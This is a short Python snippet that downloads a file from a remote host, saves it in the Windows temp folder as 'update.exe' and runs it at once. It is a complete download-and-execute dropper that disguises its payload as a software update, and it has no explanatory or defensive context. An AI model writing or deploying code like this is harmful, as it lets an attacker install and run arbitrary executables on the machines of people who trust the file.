import os, requests
p = os.getenv("TEMP") + "\\update.exe"
open(p, "wb").write(requests.get("https://x.example.org/u").content)
os.startfile(p)
